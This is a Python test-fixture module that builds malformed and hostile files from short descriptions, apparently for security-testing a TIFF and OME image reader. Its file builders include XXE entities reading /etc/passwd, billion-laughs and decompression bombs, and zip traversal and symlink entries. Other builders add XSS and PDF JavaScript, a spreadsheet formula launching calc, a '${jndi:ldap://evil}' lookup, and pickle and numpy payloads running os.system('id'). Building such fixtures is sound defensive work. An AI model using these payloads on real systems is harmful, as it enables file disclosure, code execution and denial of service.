"""Files with something wrong in them, each by the words that a set describes it with."""

from __future__ import annotations

import base64
import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable

import numpy as np
import tifffile

_XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    + "]><x>&m;</x>"
)
_OME = (
    '<OME xmlns="http://www.openmicroscopy.org/Schemas/OME/2016-06"><Image ID="Image:0" Name="{name}"><Pixels '
    'ID="Pixels:0" DimensionOrder="XYZCT" Type="uint16" SizeX="64" SizeY="64" SizeZ="1" SizeC="1" SizeT="1">'
    "{data}</Pixels></Image></OME>"
)
_COMPANION = (
    '<TiffData FirstC="0" FirstT="0" FirstZ="0" IFD="0" PlaneCount="1"><UUID FileName="{file}">urn:uuid:'
    "00000000-0000-0000-0000-000000000001</UUID></TiffData>"
)


def image(description: str = "", **more: object) -> bytes:
    """Return a good TIFF of 64 by 64 counts."""
    file = io.BytesIO()
    counts = (np.indices((64, 64)).sum(0) * 100).astype(np.uint16)
    tifffile.imwrite(file, counts, description=description or None, metadata=None, **more)  # type: ignore[arg-type]
    return file.getvalue()


#: The largest number that a tag of a classic TIFF can hold.
_MOST = (1 << 32) - 1


def _ifd(*tags: tuple[int, int, int, int], after: int = 0, data: bytes = b"") -> bytes:
    """Return a little-endian TIFF of one directory: tags as (number, type, count, value)."""
    head = b"II*\0" + struct.pack("<I", 8)
    body = struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", *tag[:3], min(tag[3], _MOST)) for tag in tags)
    return head + body + struct.pack("<I", after) + data


def _plain(rows: int = 64, columns: int = 64, **change: int) -> list[tuple[int, int, int, int]]:
    """Return the tags of an uncompressed image, with some changed by name."""
    given = {"bits": 16, "compression": 1, "photometric": 1, "offset": 200, "samples": 1, "strip": rows,
             "bytes": rows * columns * 2} | change  # fmt: skip
    return [
        (256, 4, 1, columns),
        (257, 4, 1, rows),
        (258, 3, 1, given["bits"]),
        (259, 3, 1, given["compression"]),
        (262, 3, 1, given["photometric"]),
        (273, 4, 1, given["offset"]),
        (277, 3, 1, given["samples"]),
        (278, 4, 1, given["strip"]),
        (279, 4, 1, given["bytes"]),
    ]


def _bomb(rows: int = 30_000, columns: int = 30_000) -> bytes:
    """Return a TIFF of a few kilobytes that is a gigabyte when it is unpacked."""
    packer = zlib.compressobj(9)
    piece = bytes(1 << 20)
    packed = b"".join(packer.compress(piece) for _ in range(rows * columns * 2 >> 20)) + packer.flush()
    return _ifd(*_plain(rows, columns, compression=8, bytes=len(packed)), data=bytes(200 - 126) + packed)


def _looped() -> bytes:
    return _ifd(*_plain(), after=8, data=bytes(64 * 64 * 2 + 100))


def _compressed(code: int) -> bytes:
    return _ifd(*_plain(compression=code), data=bytes(64 * 64 * 2 + 100))


def _zip(*members: tuple[str, bytes], link: str = "") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in members:
            made.writestr(name, data)
        if link:
            info = zipfile.ZipInfo("link")
            info.external_attr = 0o120777 << 16
            made.writestr(info, link)
    return file.getvalue()


def _array_file() -> bytes:
    """Return an archive of a few megabytes with an array of four gigabytes."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made,
        made.open("a.npy", "w", force_zip64=True) as member,
    ):
        member.write(
            b"\x93NUMPY\x01\0\x76\0"
            + b"{'descr': '|u1', 'fortran_order': False, 'shape': (4294967296,), }".ljust(117)
            + b"\n"
        )
        for _ in range(64):
            member.write(bytes(4 << 20))
    return file.getvalue()


def _many_pages() -> bytes:
    file = io.BytesIO()
    with tifffile.TiffWriter(file) as writer:
        for _ in range(3000):
            writer.write(np.zeros((1, 1), np.uint16), contiguous=False, metadata=None)
    return file.getvalue()


_PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=")
_PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>"

#: The words that a description (or, in the end, the name) must hold, and what is made; the first that fits is taken.
_ROWS: tuple[tuple[str, Callable[[], bytes]], ...] = (
    ("valid", image),
    ("polyglot html", lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0<html><script>alert(1)</script></html>" + bytes(64)),
    ("polyglot zip", lambda: image() + _zip(("a.py", b"import os"))),
    ("polyglot pdf", lambda: image() + _PDF),
    ("polyglot", lambda: image() + b"<html><script>alert(1)</script></html>"),
    (
        "ome external entity",
        lambda: image(_XXE.replace("<!DOCTYPE x", "<!DOCTYPE OME") + _OME.format(name="&e;", data="")),
    ),
    ("companion", lambda: image(_OME.format(name="x", data=_COMPANION.format(file="/etc/passwd")))),
    ("billion", lambda: image(_LAUGHS)),
    ("entity", lambda: image(_XXE + "<x>&e;</x>")),
    ("ome", lambda: image(_OME.format(name="x", data=_COMPANION.format(file="../../etc/passwd")))),
    ("ifd loop", _looped),
    ("loop", _looped),
    ("circular", _looped),
    ("lerc", lambda: _compressed(34887)),
    ("jpeg-xl", lambda: _compressed(50002)),
    ("jpegxl", lambda: _compressed(50002)),
    ("jpeg 2000", lambda: _compressed(34712)),
    ("jpeg2000", lambda: _compressed(34712)),
    ("webp", lambda: _compressed(50001)),
    ("zstd", lambda: _compressed(50000)),
    ("lzma", lambda: _compressed(34925)),
    ("lzw", lambda: _compressed(5)),
    ("codec", lambda: _compressed(65000)),
    ("compression", lambda: _compressed(65000)),
    ("symlink", lambda: _zip(link="/")),
    ("traversal", lambda: _zip(("../../x.py", b"import os"))),
    ("zip bomb", _array_file),
    ("bomb", _bomb),
    ("unpacked", _bomb),
    ("decompress", _bomb),
    ("gigapixel", lambda: _ifd(*_plain(1 << 31, 1 << 31), data=bytes(1000))),
    ("dimension", lambda: _ifd(*_plain(1 << 31, 1 << 31), data=bytes(1000))),
    ("2^31", lambda: _ifd(*_plain((1 << 31) - 1, (1 << 31) - 1), data=bytes(1000))),
    ("2^32", lambda: _ifd(*_plain((1 << 32) - 1, (1 << 32) - 1), data=bytes(1000))),
    ("huge", lambda: _ifd(*_plain(1 << 31, 1 << 31), data=bytes(1000))),
    ("strip beyond", lambda: _ifd(*_plain(offset=1 << 31), data=bytes(1000))),
    ("beyond", lambda: _ifd(*_plain(offset=1 << 31), data=bytes(1000))),
    ("offset", lambda: _ifd(*_plain(offset=(1 << 32) - 1), data=bytes(1000))),
    ("negative", lambda: _ifd(*_plain(offset=(1 << 32) - 1, bytes=(1 << 32) - 1), data=bytes(1000))),
    ("byte count", lambda: _ifd(*_plain(bytes=(1 << 32) - 1), data=bytes(1000))),
    ("bytecount", lambda: _ifd(*_plain(bytes=(1 << 32) - 1), data=bytes(1000))),
    ("tile", lambda: _ifd(*_plain(), (322, 4, 1, 0), (323, 4, 1, 0), data=bytes(9000))),
    ("tag count", lambda: b"II*\0" + struct.pack("<IH", 8, 65535) + bytes(100)),
    ("tags", lambda: b"II*\0" + struct.pack("<IH", 8, 65535) + bytes(100)),
    ("pages", _many_pages),
    ("frames", _many_pages),
    ("truncated", lambda: image()[:200]),
    ("zero", lambda: _ifd(*_plain(0, 0), data=bytes(300))),
    ("empty", lambda: b""),
    ("bits", lambda: _ifd(*_plain(bits=65535), data=bytes(9000))),
    ("samples", lambda: _ifd(*_plain(samples=65535), data=bytes(9000))),
    ("nan", lambda: _float_image(np.nan)),
    ("infinit", lambda: _float_image(np.inf)),
    ("float", lambda: _float_image(1e308)),
    ("bigtiff", lambda: b"II+\0\x08\0\0\0" + struct.pack("<Q", (1 << 63) - 1)),
    ("description html", lambda: image("<script>alert(1)</script>")),
    ("description", lambda: image("<img src=x onerror=alert(1)> =cmd|' /C calc'!A0")),
    ("exif", lambda: image("<script>alert(1)</script>")),
    ("metadata", lambda: image("<script>alert(1)</script>", software="${jndi:ldap://evil}")),
    ("imagej", lambda: image("ImageJ=1.54\nimages=99999999\nslices=99999999\n")),
    ("external link", lambda: b"\x89HDF\r\n\x1a\n" + b"/etc/passwd" + bytes(512)),
    ("hdf", lambda: b"\x89HDF\r\n\x1a\n" + bytes(512)),
    (
        "pickle",
        lambda: b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85R.",
    ),
    (
        "object array",
        lambda: (
            b"\x93NUMPY\x01\0\x76\0{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(128)
            + b"cos\nsystem\n(S'id'\ntR."
        ),
    ),
    ("nested", lambda: b"[" * 100_000 + b"]" * 100_000),
    ("macro", lambda: _zip(("xl/vbaProject.bin", b"x"))),
    ("xml", _LAUGHS.encode),
    ("svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"),
    ("pdf", lambda: _PDF),
    ("png", lambda: _PNG + b"<script>alert(1)</script>"),
    ("gzip", lambda: gzip.compress(bytes(64 << 20))),
    ("html", lambda: b"<html><script>alert(1)</script></html>"),
    ("json", lambda: json.dumps({"__proto__": {"x": 1}}).encode()),
    ("elf", lambda: b"\x7fELF" + bytes(512)),
    ("executable", lambda: b"MZ" + bytes(512)),
    ("script", lambda: b"#!/bin/sh\nid\n"),
    ("image", image),
)


def _float_image(value: float) -> bytes:
    file = io.BytesIO()
    tifffile.imwrite(file, np.full((64, 64), value, np.float64), metadata=None)
    return file.getvalue()


def file_of(name: str, content: str) -> bytes:
    """Return the bytes for a description; one that is no description but markup or code stands for itself."""
    if content.lstrip().startswith(("<", "#!", "import ", "{", "c.")):
        return content.encode("utf-8", "surrogatepass")
    plain = content.lower()
    for words, builder in _ROWS:
        if all(word in plain for word in words.split()):
            return builder()
    if name.lower().endswith((".tif", ".tiff")):
        raise LookupError(f"there is no way to make a file that is {content!r}")
    return content.encode("utf-8", "surrogatepass")
